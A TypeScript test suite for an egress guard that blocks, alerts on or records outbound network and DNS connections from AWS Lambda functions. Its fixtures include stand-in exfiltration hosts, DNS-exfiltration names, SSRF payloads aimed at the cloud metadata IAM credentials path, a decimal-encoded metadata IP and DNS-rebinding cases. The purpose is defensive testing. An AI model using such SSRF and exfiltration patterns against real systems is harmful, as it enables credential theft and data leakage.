import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import dns from 'node:dns';
import { mkdtempSync, readFileSync } from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import tls from 'node:tls';
import { DynamoDBClient, ListTablesCommand } from '@aws-sdk/client-dynamodb';
import { NodeHttpHandler } from '@smithy/node-http-handler';
import fc from 'fast-check';
import { request as undiciRequest } from 'undici';
import { buildControls } from '../src/controls.js';
import {
  createMatcher,
  formatIp,
  type IpAddress,
  inCidr,
  parseDestination,
  parseIp,
} from '../src/egress/destinations.js';
import {
  createEgressControl,
  type EgressControl,
  type EgressDecision,
  type EgressOptions,
} from '../src/egress/egress.js';
import { resolvePolicy } from '../src/policy.js';
import { setSinkInspector } from '../src/sink-inspector.js';

const BLOCKED = 'EPHEMERA_ERR_EGRESS_BLOCKED';
const HOST = '127.0.0.1';

// ---------------------------------------------------------------------------------------------------
// Local peers (loopback only) and helpers
// ---------------------------------------------------------------------------------------------------

interface Peers {
  tcp: net.Server;
  tcpPort: number;
  tcpConnections: number;
  http: http.Server;
  httpPort: number;
  h2: http2.Http2Server;
  h2Port: number;
  udp: dgram.Socket;
  udpPort: number;
  udpMessages: number;
}

const peers = {} as Peers;

function listen(server: net.Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, HOST, () => resolve((server.address() as net.AddressInfo).port)),
  );
}

/** What `fn` raised: an 'error' event, a rejection or a callback error (and whether it threw synchronously). */
type Outcome =
  | { ok: true; value?: unknown }
  | { ok: false; code: string | undefined; message: string; error: Error };

function failed(error: unknown): Outcome {
  const e = error as Error & { code?: string; cause?: { code?: string; message?: string } };
  // fetch wraps the socket's error as its cause ("fetch failed").
  const code = e?.cause?.code === BLOCKED ? BLOCKED : (e?.code ?? e?.cause?.code);
  return { ok: false, code, message: `${e?.message} ${e?.cause?.message ?? ''}`, error: e };
}

/** Runs an API call that reports through events or callbacks; a synchronous throw fails the test. */
function settle(start: (done: (outcome: Outcome) => void) => void): Promise<Outcome> {
  return new Promise((resolve) => {
    let finished = false;
    const done = (outcome: Outcome) => {
      if (!finished) {
        finished = true;
        resolve(outcome);
      }
    };
    try {
      start(done);
    } catch (error) {
      assert.fail(`the call threw synchronously: ${(error as Error).message}`);
    }
  });
}

const tcpConnect = (options: net.NetConnectOpts) =>
  settle((done) => {
    const socket = net.connect(options);
    socket.on('connect', () => {
      socket.destroy();
      done({ ok: true });
    });
    socket.on('error', (error) => done(failed(error)));
  });

const tlsConnect = (options: tls.ConnectionOptions) =>
  settle((done) => {
    // The peer is plain TCP: reaching it (then failing the handshake) is what "allowed" means here.
    const before = peers.tcpConnections;
    const socket = tls.connect({ ...options, rejectUnauthorized: false });
    socket.on('secureConnect', () => done({ ok: true }));
    socket.on('error', (error) =>
      done(
        peers.tcpConnections > before && (error as { code?: string }).code !== BLOCKED
          ? { ok: true }
          : failed(error),
      ),
    );
    setTimeout(() => socket.destroy(), 500).unref();
  });

const httpGet = (url: string, options: http.RequestOptions = {}) =>
  settle((done) => {
    const client = url.startsWith('https:') ? https : http;
    // A fresh connection per request: a kept-alive socket would not be judged again.
    const req = client.get(url, { agent: false, ...options }, (res) => {
      res.resume();
      res.on('end', () => done({ ok: true, value: res.statusCode }));
    });
    req.on('error', (error) => done(failed(error)));
  });

const httpsReach = (url: string) =>
  settle((done) => {
    const before = peers.tcpConnections;
    const req = https.get(url, { rejectUnauthorized: false, agent: false }, (res) => {
      res.resume();
      done({ ok: true });
    });
    req.on('error', (error) =>
      done(
        peers.tcpConnections > before && (error as { code?: string }).code !== BLOCKED
          ? { ok: true }
          : failed(error),
      ),
    );
  });

const h2Get = (authority: string) =>
  settle((done) => {
    const session = http2.connect(authority);
    session.on('error', (error) => done(failed(error)));
    const req = session.request({ ':path': '/' });
    req.on('response', () => {
      req.resume();
      req.on('end', () => {
        session.close();
        done({ ok: true });
      });
    });
    req.on('error', (error) => done(failed(error)));
    req.end();
  });

const udpSend = (port: number, address?: string) =>
  settle((done) => {
    const socket = dgram.createSocket('udp4');
    const finish = (outcome: Outcome) => {
      socket.close();
      done(outcome);
    };
    const before = peers.udpMessages;
    socket.on('error', (error) => finish(failed(error)));
    socket.send(Buffer.from('ping'), port, address, (error) => {
      if (error) finish(failed(error));
      else waitFor(() => peers.udpMessages > before).then(() => finish({ ok: true }));
    });
  });

const udpConnect = (port: number, address: string) =>
  settle((done) => {
    const socket = dgram.createSocket('udp4');
    socket.on('error', (error) => {
      socket.close();
      done(failed(error));
    });
    socket.connect(port, address, (error?: Error) => {
      socket.close();
      done(error ? failed(error) : { ok: true });
    });
  });

const lookup = (name: string) =>
  settle((done) =>
    dns.lookup(name, (error, address) => done(error ? failed(error) : { ok: true, value: address })),
  );

const promise = (run: () => Promise<unknown>) =>
  settle((done) => {
    run().then(
      (value) => done({ ok: true, value }),
      (error) => done(failed(error)),
    );
  });

async function waitFor(check: () => boolean, ms = 2000): Promise<void> {
  const end = Date.now() + ms;
  while (!check()) {
    if (Date.now() > end) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 5));
  }
}

/** A lookup that answers every name with `address` (names without DNS, offline). */
function fakeLookup(address: string) {
  return (_host: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => {
    const family = net.isIP(address);
    if (options?.all) callback(null, [{ address, family }]);
    else callback(null, address, family);
  };
}

function assertBlocked(outcome: Outcome, what: string, pattern?: RegExp): void {
  assert.equal(outcome.ok, false, `${what} was not blocked`);
  if (outcome.ok) return;
  assert.equal(outcome.code, BLOCKED, `${what}: ${outcome.message}`);
  if (pattern) assert.match(outcome.message, pattern);
}

function assertAllowed(outcome: Outcome, what: string): void {
  assert.equal(outcome.ok, true, `${what} failed: ${outcome.ok ? '' : outcome.message}`);
}

// ---------------------------------------------------------------------------------------------------
// One control at a time (the hooks are process-wide; the last install() is consulted)
// ---------------------------------------------------------------------------------------------------

let active: EgressControl | undefined;
let decisions: EgressDecision[] = [];

function use(options: Partial<EgressOptions> & Pick<EgressOptions, 'action'>): EgressControl {
  active?.deactivate();
  decisions = [];
  const control = createEgressControl({
    allow: ['*.amazonaws.com'],
    env: {},
    onDecision: (d) => decisions.push(d),
    ...options,
  });
  control.install();
  active = control;
  return control;
}

before(async () => {
  peers.tcpConnections = 0;
  peers.udpMessages = 0;
  peers.tcp = net.createServer((socket) => {
    peers.tcpConnections++;
    socket.on('error', () => {});
    socket.end();
  });
  peers.tcpPort = await listen(peers.tcp);
  peers.http = http.createServer((req, res) => {
    if (req.url?.startsWith('/dynamodb') || req.headers['x-amz-target']) {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'content-type': 'application/x-amz-json-1.0' });
        res.end(JSON.stringify({ TableNames: ['orders'] }));
      });
      return;
    }
    res.end('ok');
  });
  peers.httpPort = await listen(peers.http);
  peers.h2 = http2.createServer((_req, res) => res.end('h2'));
  peers.h2Port = await listen(peers.h2 as unknown as net.Server);
  peers.udp = dgram.createSocket('udp4', () => {
    peers.udpMessages++;
  });
  await new Promise<void>((r) => peers.udp.bind(0, HOST, () => r()));
  peers.udpPort = peers.udp.address().port;
});

afterEach(() => {
  active?.deactivate();
  active = undefined;
  setSinkInspector(undefined);
});

after(() => {
  peers.tcp.close();
  peers.http.closeAllConnections();
  peers.http.close();
  peers.h2.close();
  peers.udp.close();
  http.globalAgent.destroy();
  https.globalAgent.destroy();
});

// ---------------------------------------------------------------------------------------------------
// Every API, block and alert
// ---------------------------------------------------------------------------------------------------

describe('egress block: every client API fails like a network error, never a synchronous throw', () => {
  const base = () => `http://${HOST}:${peers.httpPort}/`;

  it('net.connect', async () => {
    use({ action: 'block' });
    const outcome = await tcpConnect({ host: HOST, port: peers.tcpPort });
    assertBlocked(outcome, 'net.connect', new RegExp(`127\\.0\\.0\\.1:${peers.tcpPort} through net`));
    assert.deepEqual(
      decisions.map((d) => [d.action, d.reason, d.host, d.port, d.ip, d.api, d.transport]),
      [['block', 'not-allowed', HOST, peers.tcpPort, HOST, 'net', 'tcp']],
    );
  });

  it('new net.Socket().connect(port, host) and a name refused before any DNS query', async () => {
    use({ action: 'block' });
    const before = peers.tcpConnections;
    const outcome = await settle((done) => {
      const socket = new net.Socket();
      socket.on('error', (e) => done(failed(e)));
      socket.on('connect', () => done({ ok: true }));
      assert.equal(socket.connect(peers.tcpPort, HOST), socket, 'connect returns the socket');
    });
    assertBlocked(outcome, 'Socket#connect');
    let looked = false;
    const byName = await tcpConnect({
      host: 'exfil.attacker.test',
      port: peers.tcpPort,
      lookup: (...args: unknown[]) => {
        looked = true;
        (fakeLookup(HOST) as (...a: unknown[]) => void)(...args);
      },
    });
    assertBlocked(byName, 'a name not allowed', /exfil\.attacker\.test/);
    assert.equal(looked, false, 'no lookup for a name the list refuses');
    assert.equal(peers.tcpConnections, before, 'nothing reached the peer');
  });

  it('judges the host Node connects to: an options getter cannot answer differently the second time', async () => {
    use({ action: 'block' });
    const before = peers.tcpConnections;
    let reads = 0;
    const options = {
      port: peers.tcpPort,
      // Socket#connect(options): the guard's hook is the first reader.
      get host() {
        reads++;
        return reads === 1 ? 'sneaky.amazonaws.com' : HOST; // allowed for the guard, loopback for Node
      },
      lookup: (_h: string, _o: unknown, cb: (e: Error) => void) =>
        cb(Object.assign(new Error('no such name'), { code: 'ENOTFOUND' })),
    } as net.SocketConnectOpts;
    const outcome = await settle((done) => {
      const socket = new net.Socket();
      socket.on('error', (e) => done(failed(e)));
      socket.on('connect', () => {
        socket.destroy();
        done({ ok: true });
      });
      socket.connect(options);
    });
    assert.equal(outcome.ok ? 'connected' : outcome.code, 'ENOTFOUND', 'Node resolved the judged name');
    assert.equal(peers.tcpConnections, before, 'nothing reached 127.0.0.1');
  });

  it('tls.connect', async () => {
    use({ action: 'block' });
    assertBlocked(await tlsConnect({ host: HOST, port: peers.tcpPort }), 'tls.connect', / through tls/);
  });

  it('http.get and https.get', async () => {
    use({ action: 'block' });
    assertBlocked(await httpGet(base()), 'http.get', / through http:/);
    assertBlocked(await httpsReach(`https://${HOST}:${peers.tcpPort}/`), 'https.get', / through https:/);
  });

  it('http2.connect (h2c and over TLS)', async () => {
    use({ action: 'block' });
    assertBlocked(await h2Get(`http://${HOST}:${peers.h2Port}`), 'http2.connect');
    assertBlocked(await h2Get(`https://${HOST}:${peers.tcpPort}`), 'http2.connect https');
    assert.deepEqual(
      decisions.map((d) => d.api),
      ['net', 'http2'],
      'h2c shows as net (nothing marks it); over TLS its ALPN names it',
    );
  });

  it('global fetch (Node bundled undici) and the undici package', async () => {
    use({ action: 'block' });
    assertBlocked(await promise(() => fetch(base()).then((r) => r.text())), 'fetch');
    assertBlocked(await promise(() => undiciRequest(base()).then((r) => r.body.text())), 'undici.request');
  });

  it('dgram send and connect: callback error, or an error event without a callback', async () => {
    use({ action: 'block' });
    const before = peers.udpMessages;
    assertBlocked(await udpSend(peers.udpPort, HOST), 'dgram.send');
    assertBlocked(await udpConnect(peers.udpPort, HOST), 'dgram.connect');
    const viaEvent = await settle((done) => {
      const socket = dgram.createSocket('udp4');
      socket.on('error', (e) => {
        socket.close();
        done(failed(e));
      });
      socket.send('x', peers.udpPort, HOST);
    });
    assertBlocked(viaEvent, 'dgram.send without callback');
    await new Promise((r) => setTimeout(r, 50));
    assert.equal(peers.udpMessages, before, 'no datagram left');
    assert.ok(decisions.some((d) => d.transport === 'udp' && d.api === 'dgram.send'));
  });

  it('dns.lookup, dns.promises, dns.resolve* and Resolver (a DNS query is a channel)', async () => {
    use({ action: 'block' });
    assertBlocked(await lookup('localhost'), 'dns.lookup');
    assertBlocked(await promise(() => dns.promises.lookup('localhost')), 'dns.promises.lookup');
    assertBlocked(
      await settle((done) =>
        dns.resolve4('secret-123.exfil.test', (e) => done(e ? failed(e) : { ok: true })),
      ),
      'dns.resolve4',
    );
    assertBlocked(
      await settle((done) =>
        new dns.Resolver().resolveTxt('x.exfil.test', (e) => done(e ? failed(e) : { ok: true })),
      ),
      'Resolver#resolveTxt',
    );
    assertBlocked(await promise(() => dns.promises.resolve('x.exfil.test', 'A')), 'dns.promises.resolve');
    assertBlocked(
      await promise(() => new dns.promises.Resolver().resolve6('x.exfil.test')),
      'promises.Resolver',
    );
    const apis = decisions.map((d) => d.api);
    for (const api of [
      'dns.lookup',
      'dns.promises.lookup',
      'dns.resolve4',
      'dns.resolveTxt',
      'dns.promises.resolve',
    ]) {
      assert.ok(apis.includes(api), `${api} reported (${apis})`);
    }
    assert.ok(decisions.every((d) => d.transport === 'dns' && d.port === null));
  });

  it('the AWS SDK v3 (DynamoDB) rejects its promise; allowed through egress.allow it works', async () => {
    use({ action: 'block' });
    const client = (endpoint: string, handler?: NodeHttpHandler) =>
      new DynamoDBClient({
        region: 'us-east-1',
        endpoint,
        maxAttempts: 1,
        credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'secret' },
        ...(handler ? { requestHandler: handler } : {}),
      });
    const local = `http://${HOST}:${peers.httpPort}`;
    const blocked = await promise(() => client(local).send(new ListTablesCommand({})));
    assertBlocked(blocked, 'DynamoDB to a loopback endpoint not in egress.allow');
    use({ action: 'block', allow: [`${HOST}:${peers.httpPort}`] });
    const allowed = await promise(() => client(local).send(new ListTablesCommand({})));
    assertAllowed(allowed, 'DynamoDB with its endpoint allowed');
    // The default list allows the region's endpoints by name (DNS faked: no AWS here).
    use({ action: 'block' });
    const agent = new http.Agent({ lookup: fakeLookup(HOST) as unknown as net.LookupFunction });
    const regional = await promise(() =>
      client(
        `http://dynamodb.us-east-1.amazonaws.com:${peers.httpPort}`,
        new NodeHttpHandler({ httpAgent: agent }),
      ).send(new ListTablesCommand({})),
    );
    assertAllowed(regional, 'dynamodb.us-east-1.amazonaws.com under the default *.amazonaws.com');
    assert.deepEqual(decisions, []);
    agent.destroy();
  });
});

describe('egress alert: every API goes through and is reported once per invocation', () => {
  it('net, tls, http, https, http2, fetch, undici, dgram and dns', async () => {
    const control = use({ action: 'alert' });
    control.setInvocation({ active: true, event: {} });
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'net');
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'net again');
    assertAllowed(await tlsConnect({ host: HOST, port: peers.tcpPort }), 'tls');
    assertAllowed(await httpGet(`http://${HOST}:${peers.httpPort}/`), 'http');
    assertAllowed(await httpsReach(`https://${HOST}:${peers.tcpPort}/`), 'https');
    assertAllowed(await h2Get(`http://${HOST}:${peers.h2Port}`), 'http2');
    assertAllowed(
      await promise(() => fetch(`http://${HOST}:${peers.httpPort}/`).then((r) => r.text())),
      'fetch',
    );
    assertAllowed(
      await promise(() => undiciRequest(`http://${HOST}:${peers.httpPort}/`).then((r) => r.body.text())),
      'undici',
    );
    assertAllowed(await udpSend(peers.udpPort, HOST), 'dgram.send');
    assertAllowed(await udpSend(peers.udpPort, 'localhost'), 'dgram.send to a name');
    assertAllowed(await lookup('localhost'), 'dns.lookup');
    // A resolver pointed at a closed loopback port: the query is sent (and fails), not refused.
    const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
    resolver.setServers([`${HOST}:9`]);
    const query = await settle((done) =>
      resolver.resolve4('x.exfil.test', (e) => done(e ? failed(e) : { ok: true })),
    );
    assert.notEqual(query.ok ? undefined : query.code, BLOCKED);
    assert.ok(decisions.every((d) => d.action === 'alert' && d.reason === 'not-allowed'));
    const seen = new Set(decisions.map((d) => d.api));
    for (const api of ['net', 'tls', 'http', 'https', 'dgram.send', 'dns.lookup', 'dns.resolve4']) {
      assert.ok(seen.has(api), `${api} reported (${[...seen]})`);
    }
    const net1 = decisions.filter((d) => d.api === 'net' && d.port === peers.tcpPort);
    assert.equal(net1.length, 1, 'the same destination and API is reported once per invocation');
    control.setInvocation({ active: false });
    control.setInvocation({ active: true, event: {} });
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'net, next invocation');
    assert.equal(decisions.filter((d) => d.api === 'net' && d.port === peers.tcpPort).length, 2);
    assert.ok(decisions.every((d) => d.phase !== 'init'));
  });
});

describe('event volume', () => {
  it('reports at most 256 distinct refusals per invocation; every one is still refused', async () => {
    const control = use({ action: 'block' });
    control.setInvocation({ active: true, event: {} });
    const outcomes = await Promise.all(Array.from({ length: 300 }, (_, i) => lookup(`n${i}.exfil.test`)));
    assert.ok(outcomes.every((o) => !o.ok && o.code === BLOCKED));
    assert.equal(decisions.length, 256);
    control.setInvocation({ active: true, event: {} });
    assertBlocked(await lookup('n0.exfil.test'), 'next invocation');
    assert.equal(decisions.length, 257, 'the next invocation reports again');
  });
});

describe('always allowed: the runtime is never cut off', () => {
  it('the Runtime API, the X-Ray daemon and the telemetry endpoint pass an empty allow-list in block mode', async () => {
    use({
      action: 'block',
      allow: [],
      env: {
        AWS_LAMBDA_RUNTIME_API: `${HOST}:${peers.httpPort}`,
        AWS_XRAY_DAEMON_ADDRESS: `${HOST}:${peers.udpPort}`,
      },
      telemetryEndpoint: `http://${HOST}:${peers.h2Port}/v1/events`,
    });
    assertAllowed(
      await httpGet(`http://${HOST}:${peers.httpPort}/2018-06-01/runtime/invocation/next`),
      'Runtime API',
    );
    assertAllowed(await udpSend(peers.udpPort, HOST), 'X-Ray daemon (UDP)');
    assertAllowed(await tcpConnect({ host: HOST, port: peers.h2Port }), 'telemetry endpoint');
    assertBlocked(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'any other port of the same host');
    assert.deepEqual(
      decisions.map((d) => d.port),
      [peers.tcpPort],
    );
  });

  it('X-Ray "udp:host:port tcp:host:port" form', async () => {
    use({
      action: 'block',
      allow: [],
      env: { AWS_XRAY_DAEMON_ADDRESS: `udp:${HOST}:${peers.udpPort} tcp:${HOST}:${peers.tcpPort}` },
    });
    assertAllowed(await udpSend(peers.udpPort, HOST), 'X-Ray UDP');
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'X-Ray TCP');
    assertBlocked(await tcpConnect({ host: HOST, port: peers.udpPort }), 'the UDP port over TCP');
  });
});

describe('allow-list matching on real connections', () => {
  it('IP, CIDR and port entries; a name is judged by the address it resolves to when the list has address entries', async () => {
    use({ action: 'block', allow: ['10.0.0.0/8', `127.0.0.0/8:${peers.tcpPort}`] });
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'CIDR with port');
    assertBlocked(await tcpConnect({ host: HOST, port: peers.httpPort }), 'CIDR, other port');
    assertAllowed(
      await tcpConnect({ host: 'localhost', port: peers.tcpPort, family: 4 }),
      'localhost → 127.0.0.1',
    );
    assertAllowed(
      await tcpConnect({ host: 'db.internal.test', port: peers.tcpPort, lookup: fakeLookup(HOST) as never }),
      'a name resolving into the CIDR',
    );
    const resolvedOut = await tcpConnect({
      host: 'db.internal.test',
      port: peers.httpPort,
      lookup: fakeLookup(HOST) as never,
    });
    assertBlocked(
      resolvedOut,
      'a name resolving to an address on a port not allowed',
      /resolved to 127\.0\.0\.1/,
    );
    assert.equal(decisions.at(-1)?.ip, HOST);
  });

  it('wildcards and exact names, with ports, judged before DNS', async () => {
    use({ action: 'block', allow: ['*.example.test', `api.partner.test:${peers.tcpPort}`] });
    const to = (host: string, port = peers.tcpPort) =>
      tcpConnect({ host, port, lookup: fakeLookup(HOST) as never });
    assertAllowed(await to('a.b.example.test'), 'deep subdomain');
    assertAllowed(await to('API.Partner.Test.'), 'exact name, case and trailing dot');
    assertBlocked(await to('example.test'), 'the wildcard apex');
    assertBlocked(await to('evilexample.test'), 'a suffix without the dot');
    assertBlocked(await to('api.partner.test', peers.httpPort), 'exact name, other port');
  });

  it('DNS rebinding: an allowed name resolving to a metadata address is refused before connect(2)', async () => {
    use({ action: 'block' });
    for (const address of ['169.254.169.254', '169.254.170.2', 'fd00:ec2::254', '::ffff:169.254.169.254']) {
      const outcome = await tcpConnect({
        host: 's3.us-east-1.amazonaws.com',
        port: 443,
        lookup: fakeLookup(address) as never,
      });
      assertBlocked(outcome, `rebinding to ${address}`, /metadata address/);
    }
    assert.ok(
      decisions.every((d) => d.reason === 'metadata-address' && d.host === 's3.us-east-1.amazonaws.com'),
    );
    assert.deepEqual(decisions.at(-1)?.ip, '169.254.169.254', 'IPv4-mapped reported as IPv4');
    assertBlocked(await httpGet('http://169.254.169.254/latest/meta-data/'), 'IMDS literal');
    assertBlocked(await httpGet('http://[fd00:ec2::254]/latest/meta-data/'), 'IMDS IPv6 literal');
  });
});

describe('SSRF: metadata and credential endpoints named by the event', () => {
  it('block: a metadata URL from the event is refused with detector ssrf, even when the list covers it', async () => {
    const control = use({ action: 'block', allow: ['169.254.169.254'] });
    control.setInvocation({
      active: true,
      event: { body: JSON.stringify({ webhook: 'http://169.254.169.254/latest/meta-data/iam/' }) },
    });
    const outcome = await httpGet('http://169.254.169.254/latest/meta-data/iam/');
    assertBlocked(outcome, 'SSRF to IMDS', /SSRF/);
    assert.deepEqual(
      decisions.map((d) => [d.action, d.reason, d.detector, d.host]),
      [['block', 'ssrf', 'ssrf', '169.254.169.254']],
    );
  });

  it('block: encoded forms (decimal IP in a URL, a name that resolves there) are caught', async () => {
    const control = use({ action: 'block', allow: ['*.rebind.test'] });
    control.setInvocation({
      active: true,
      event: { queryStringParameters: { u: 'http://2852039166/latest' } },
    });
    assertBlocked(await promise(() => fetch('http://2852039166/latest')), 'decimal IMDS URL');
    assert.equal(decisions.at(-1)?.detector, 'ssrf');
    control.setInvocation({ active: true, event: { body: 'fetch http://meta.rebind.test/ please' } });
    const rebound = await tcpConnect({
      host: 'meta.rebind.test',
      port: 80,
      lookup: fakeLookup('169.254.169.254') as never,
    });
    assertBlocked(rebound, 'name from the event resolving to IMDS', /SSRF/);
    assert.equal(decisions.at(-1)?.ip, '169.254.169.254');
  });

  it('the credentials endpoint (AWS_CONTAINER_CREDENTIALS_FULL_URI): allowed for the SDK, flagged when the event names it', async () => {
    const env = { AWS_CONTAINER_CREDENTIALS_FULL_URI: `http://${HOST}:${peers.httpPort}/creds` };
    const control = use({ action: 'alert', allow: [], env });
    control.setInvocation({ active: true, event: { body: 'nothing here' } });
    assertAllowed(await httpGet(`http://${HOST}:${peers.httpPort}/creds`), 'SDK credentials fetch');
    assert.equal(decisions.length, 0);
    control.setInvocation({
      active: true,
      event: { body: `{"url":"http://${HOST}:${peers.httpPort}/creds"}` },
    });
    assertAllowed(await httpGet(`http://${HOST}:${peers.httpPort}/creds`), 'alert lets it through');
    assert.deepEqual(
      decisions.map((d) => [d.action, d.detector]),
      [['alert', 'ssrf']],
    );
    const blocking = use({ action: 'block', allow: [], env });
    blocking.setInvocation({ active: true, event: { body: `http://${HOST}:${peers.httpPort}/creds` } });
    assertBlocked(await httpGet(`http://${HOST}:${peers.httpPort}/creds`), 'block refuses it');
  });

  it('without the event naming it, a metadata address is refused as metadata-address, not ssrf', async () => {
    const control = use({ action: 'block' });
    control.setInvocation({ active: true, event: { body: '{"a":1}' } });
    assertBlocked(await httpGet('http://169.254.169.254/'), 'IMDS');
    assert.equal(decisions.at(-1)?.reason, 'metadata-address');
    assert.equal(decisions.at(-1)?.detector, null);
  });
});

describe('the firewall seam: inspectSink at each outbound connection', () => {
  it('passes a URL naming the destination and fails the connection with the returned error', async () => {
    use({ action: 'alert' });
    const seen: string[] = [];
    setSinkInspector((kind, value, context) => {
      seen.push(`${kind} ${value} ${context.sink}`);
      return value.includes(`:${peers.tcpPort}`)
        ? Object.assign(new Error('firewall refused'), { code: 'FW' })
        : undefined;
    });
    const refused = await tcpConnect({ host: HOST, port: peers.tcpPort });
    assert.equal(refused.ok, false);
    assert.equal(refused.ok ? undefined : refused.code, 'FW');
    assertAllowed(await httpGet(`http://${HOST}:${peers.httpPort}/`), 'inspector says nothing');
    assert.ok(seen.includes(`url tcp://${HOST}:${peers.tcpPort} net`), seen.join('\n'));
    assert.ok(seen.includes(`url tcp://${HOST}:${peers.httpPort} http`), seen.join('\n'));
  });
});

describe('egress learn', () => {
  it('records destinations without blocking, reports each once, writes a policy fragment', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ephemera-egress-'));
    const file = join(dir, 'learned.json');
    const control = use({ action: 'learn', allow: ['*.amazonaws.com'], learnFile: file });
    control.setInvocation({ active: true, event: {} });
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'net');
    assertAllowed(await tcpConnect({ host: HOST, port: peers.tcpPort }), 'net again');
    assertAllowed(await httpGet(`http://localhost:${peers.httpPort}/`), 'http by name');
    assertAllowed(await udpSend(peers.udpPort, HOST), 'udp');
    assertAllowed(await lookup('localhost'), 'dns');
    assertAllowed(
      await tcpConnect({
        host: 'dynamodb.eu-west-1.amazonaws.com',
        port: peers.tcpPort,
        lookup: fakeLookup(HOST) as never,
      }),
      'allowed name',
    );
    const expected = [
      `127.0.0.1:${peers.tcpPort}`,
      `127.0.0.1:${peers.udpPort}`,
      `dynamodb.eu-west-1.amazonaws.com:${peers.tcpPort}`,
      'localhost',
      `localhost:${peers.httpPort}`,
    ].sort();
    assert.deepEqual(control.learned(), expected);
    assert.deepEqual(
      decisions.map((d) => d.action),
      expected.map(() => 'learn'),
    );
    assert.equal(control.flushLearned(), true);
    assert.equal(control.flushLearned(), false, 'nothing new: no write');
    assert.deepEqual(JSON.parse(readFileSync(file, 'utf8')), { egress: { allow: expected } });
    // A second environment in the same sandbox merges into the file.
    const next = use({ action: 'learn', learnFile: file });
    assertAllowed(await tcpConnect({ host: HOST, port: peers.httpPort }), 'net');
    next.flushLearned();
    assert.deepEqual(
      JSON.parse(readFileSync(file, 'utf8')).egress.allow,
      [...expected, `127.0.0.1:${peers.httpPort}`].sort(),
    );
  });
});

describe('configuration', () => {
  it('refuses a bad egress.allow entry with EPHEMERA_ERR_POLICY naming it', () => {
    for (const [entry, why] of [
      ['https://api.example.com', /looks like a URL/],
      ['api.example.com:99999', /port "99999"/],
      ['10.0.0.0/33', /prefix length "33"/],
      ['300.1.1.1', /not an IPv4 address/],
      ['a*.example.com', /leading "\*\." label/],
      ['[fd00::1', /without "]"/],
      ['bad_host!', /not a valid host name label/],
    ] as const) {
      assert.throws(
        () => createEgressControl({ action: 'block', allow: ['*.amazonaws.com', entry] }),
        (error: Error & { code?: string }) => {
          assert.equal(error.code, 'EPHEMERA_ERR_POLICY');
          assert.ok(error.message.startsWith(`egress.allow[1] is ${JSON.stringify(entry)}:`), error.message);
          assert.match(error.message, why);
          assert.match(error.message, /accepted: a host/);
          return true;
        },
      );
    }
  });

  it('the guard refuses to start on a bad entry (buildControls throws), and builds the control otherwise', () => {
    const bad = resolvePolicy({ egress: { action: 'block', allow: ['http://x'] }, telemetry: 'off' }, {});
    assert.throws(() => buildControls(bad), /EPHEMERA_ERR_POLICY|egress\.allow\[0\]/);
    const good = resolvePolicy({ mode: 'off', egress: 'alert', telemetry: 'off' }, {});
    assert.deepEqual(
      buildControls(good).map((c) => c.name),
      ['egress'],
    );
  });
});

// ---------------------------------------------------------------------------------------------------
// The matcher, as properties
// ---------------------------------------------------------------------------------------------------

const ipv4 = fc.integer({ min: 0, max: 0xffffffff });
const v4text = (n: number) => [n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255].join('.');
const hextets = fc.array(fc.integer({ min: 0, max: 0xffff }), { minLength: 8, maxLength: 8 });
const toBig = (groups: readonly number[]) => groups.reduce((acc, g) => (acc << 16n) | BigInt(g), 0n);
const label = fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?$/);

describe('destination matching (fast-check properties)', () => {
  it('IPv4 CIDR: an address matches iff its top `prefix` bits equal the block’s', () => {
    fc.assert(
      fc.property(ipv4, ipv4, fc.integer({ min: 0, max: 32 }), (ip, block, prefix) => {
        const expected = prefix === 0 || ip >>> (32 - prefix) === block >>> (32 - prefix);
        const matcher = createMatcher([parseDestination(`${v4text(block)}/${prefix}`)]);
        const address = parseIp(v4text(ip)) as IpAddress;
        assert.equal(matcher.matchAddress(address, 443) !== undefined, expected);
        assert.equal(formatIp(address), v4text(ip));
      }),
      { numRuns: 2000 },
    );
  });

  it('IPv6 CIDR, in the canonical compressed form URL parsing produces', () => {
    fc.assert(
      fc.property(hextets, hextets, fc.integer({ min: 0, max: 128 }), (ipGroups, blockGroups, prefix) => {
        const canonical = (g: number[]) =>
          new URL(`http://[${g.map((x) => x.toString(16)).join(':')}]`).hostname.slice(1, -1);
        const ip = parseIp(canonical(ipGroups));
        const block = parseIp(canonical(blockGroups));
        assert.ok(ip && block);
        const shift = BigInt(128 - prefix);
        const expected = toBig(ipGroups) >> shift === toBig(blockGroups) >> shift;
        if (ip.family === 6 && block.family === 6) {
          assert.deepEqual(ip.groups, ipGroups);
          assert.equal(inCidr(ip, block, prefix), expected);
          const entry = parseDestination(`[${canonical(blockGroups)}/${prefix}]:8443`);
          assert.equal(createMatcher([entry]).matchAddress(ip, 8443) !== undefined, expected);
          assert.equal(createMatcher([entry]).matchAddress(ip, 8444), undefined);
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('*.suffix matches every deeper name, never the apex nor a name merely ending in the text', () => {
    fc.assert(
      fc.property(
        fc.array(label, { minLength: 1, maxLength: 4 }),
        fc.array(label, { minLength: 1, maxLength: 3 }),
        label,
        (sub, suffixLabels, glued) => {
          const suffix = suffixLabels.join('.');
          const matcher = createMatcher([parseDestination(`*.${suffix}`)]);
          assert.ok(matcher.matchName(`${sub.join('.')}.${suffix}`, 443));
          assert.equal(matcher.matchName(suffix, 443), undefined);
          assert.equal(matcher.matchName(`${glued}${suffix}`, 443), undefined);
        },
      ),
    );
  });

  it('ports: an entry with a port matches only that port; without, every port; a DNS question, every entry', () => {
